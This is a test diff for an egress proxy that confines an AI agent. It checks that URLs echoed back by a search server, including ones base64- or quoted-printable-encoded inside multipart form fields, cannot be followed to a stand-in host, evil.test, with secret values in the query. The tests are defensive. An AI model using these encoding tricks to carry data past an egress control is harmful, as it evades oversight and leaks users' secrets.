@@ -170,11 +170,26 @@ async function startEchoWeb(t: Teardown): Promise<Web & { all: Hit[] }> {
   const all: Hit[] = [];
   let port = 0;
   const server = http.createServer((req, res) => {
-    req.resume();
+    const chunks: Buffer[] = [];
+    req.on('data', (c: Buffer) => chunks.push(c));
     req.on('end', () => {
       const host = (req.headers.host ?? '').split(':')[0]!;
       all.push({ host, url: req.url ?? '', headers: req.headers });
-      const q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
+      let q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
+      // A multipart form, read as a MIME parser does (Go's mime/multipart undoes quoted-printable;
+      // some undo base64 too): the field q, its transfer encoding undone.
+      const boundary = /boundary=([^;]+)/.exec(req.headers['content-type'] ?? '')?.[1];
+      if (boundary) {
+        for (const part of Buffer.concat(chunks).toString('latin1').split(`--${boundary}`)) {
+          const [head = '', body = ''] = part.split('\r\n\r\n');
+          if (!/name="q"/.test(head)) continue;
+          const value = body.replace(/\r\n$/, '');
+          const cte = /content-transfer-encoding:\s*(\S+)/i.exec(head)?.[1]?.toLowerCase();
+          q = cte === 'base64' ? Buffer.from(value, 'base64').toString('utf8')
+            : cte === 'quoted-printable' ? value.replace(/=\r\n/g, '').replace(/=([0-9A-F]{2})/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16)))
+            : value;
+        }
+      }
       if (host === 'search.test' && req.url?.startsWith('/page/')) {
         // A page with share buttons: links to other hosts that carry the page's own URL.
         const self = encodeURIComponent(`http://search.test:${port}${req.url}`);
@@ -197,7 +212,8 @@ async function startEchoWeb(t: Teardown): Promise<Web & { all: Hit[] }> {
 
 t.test('through the real proxy: echoed URLs stay unfollowable; a followed link carries none of the agent\'s headers', async (t) => {
   const web = await startEchoWeb(t);
-  const airlock = await startSessionAirlock(t, tempDir(t, 'al-echo-'), policyCopy(t, { config: { ...testConfig.config, labels: { hosts: { 'search.test': [] } } } }), web);
+  const allowed = [...testConfig.config.allowed_hosts.filter((h) => h !== 'search.test'), { host: 'search.test', methods: ['POST'] }];
+  const airlock = await startSessionAirlock(t, tempDir(t, 'al-echo-'), policyCopy(t, { config: { ...testConfig.config, allowed_hosts: allowed, labels: { hosts: { 'search.test': [] } } } }), web);
   const agent = await airlock.agents.add('bot');
   const proxy = airlock.proxyUrl('bot', agent.token);
   const evil = (d: string): string => `http://evil.test:${web.port}/x?d=${d}`;
@@ -222,6 +238,15 @@ t.test('through the real proxy: echoed URLs stay unfollowable; a followed link c
     t.equal((await viaCurl(proxy, 'GET', normalized)).status, 403, `the echoed ${written} is not followable as ${normalized}`);
   }
   t.notOk(web.all.some((h) => h.host !== 'search.test' && /secret1[01]/.test(h.url)), 'no echoed spelling reached its host');
+
+  // A multipart form whose field is base64 or quoted-printable: the server undoes it and echoes the URL.
+  const form = (cte: string, value: string): string => `--b0\r\nContent-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n${value}\r\n--b0--\r\n`;
+  const qp = (u: string): string => [...u].map((c) => `=${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/(.{60})/g, '$1=\r\n');
+  for (const [cte, value, d] of [['base64', Buffer.from(evil('secret13')).toString('base64'), 'secret13'], ['quoted-printable', qp(evil('secret14')), 'secret14']] as const) {
+    t.equal(await postVia(airlock.proxyAddress.port, `bot:${agent.token}`, `${web.origin('search.test')}/s`, 'multipart/form-data; boundary=b0', form(cte, value)), 200);
+    t.equal((await viaCurl(proxy, 'GET', evil(d))).status, 403, `the ${cte} field echoed is not followable`);
+  }
+  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
 
   // A page whose links to another host carry the page's own URL (share and archive buttons): the
   // agent chose that URL, so those links carry its data.
@@ -251,3 +276,15 @@ t.test('through the real proxy: echoed URLs stay unfollowable; a followed link c
   await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=x`, undefined, { 'x-query': 'kept' });
   t.equal(web.all.at(-1)!.headers['x-query'], 'kept');
 });
+
+/** A POST through the proxy with Node's http client (one Content-Type, as given); its status. */
+function postVia(proxyPort: number, credentials: string, url: string, type: string, body: string): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const req = http.request({ host: '127.0.0.1', port: proxyPort, method: 'POST', path: url, headers: { host: new URL(url).host, 'proxy-authorization': `Basic ${Buffer.from(credentials).toString('base64')}`, 'content-type': type, 'content-length': Buffer.byteLength(body) } }, (res) => {
+      res.resume();
+      res.on('end', () => resolve(res.statusCode ?? 0));
+    });
+    req.on('error', reject);
+    req.end(body);
+  });
+}
